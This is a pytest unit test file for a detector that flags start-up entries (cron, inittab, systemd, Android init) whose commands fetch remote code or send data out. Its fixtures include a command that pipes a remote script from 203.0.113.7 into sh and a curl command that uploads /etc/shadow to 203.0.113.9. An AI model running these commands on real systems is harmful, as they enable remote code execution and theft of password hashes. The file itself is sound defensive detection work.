"""What the commands of start-up files do."""

import pytest
from hypothesis import given
from hypothesis import strategies as st
from tests.unit.explaining.cases import case, findings, rules

from trueware.explaining.detectors.start_up import StartUp
from trueware.explaining.detectors.started_commands import StartedCommands

FETCH = "wget -qO- http://203.0.113.7/x.sh | sh"
SEND = "curl -s -F f=@/etc/shadow http://203.0.113.9/in"


@pytest.mark.parametrize(
    ("path", "line"),
    [
        ("etc/cron.d/x", "0 4 * * * root {}\n"),
        ("etc/crontabs/root", "0 4 * * * {}\n"),
        ("etc/inittab", "::once:/bin/sh -c '{}'\n"),
        ("etc/systemd/system/x.service", "[Service]\nExecStart=/bin/sh -c '{}'\n"),
        ("system/etc/init/x.rc", 'service x /system/bin/sh -c "{}"\n'),
    ],
)
def test_commands(path: str, line: str) -> None:
    for command, rule in ((FETCH, "start-downloads-code"), (SEND, "start-sends-data"), ("/usr/bin/x -a", None)):
        made = case({}, {path: line.format(command).encode()})
        assert rules(StartedCommands, made) == ([rule] if rule else [])
        assert "start-added" in rules(StartUp, made)


def test_what_was_there_or_is_a_script_is_not_told() -> None:
    line = f"0 4 * * * root {FETCH}\n".encode()
    assert rules(StartedCommands, case({"etc/cron.d/x": line}, {"etc/cron.d/x": b"# new\n" + line})) == []
    assert rules(StartedCommands, case({}, {"etc/cron.d/x": b"#" + line})) == []
    assert rules(StartedCommands, case({}, {"etc/rc.local": FETCH.encode()})) == [], "a script, told as one"


def test_where_it_leads() -> None:
    (found,) = findings(StartedCommands, case({}, {"etc/cron.d/x": f"@daily root {SEND}\n".encode()}))
    assert found.touches == ("host:203.0.113.9",)
    assert found.evidence[0].where == "line 1"


@given(st.binary())
def test_any_bytes_have_a_reading(data: bytes) -> None:
    rules(StartedCommands, case({}, {"etc/crontab": data}))
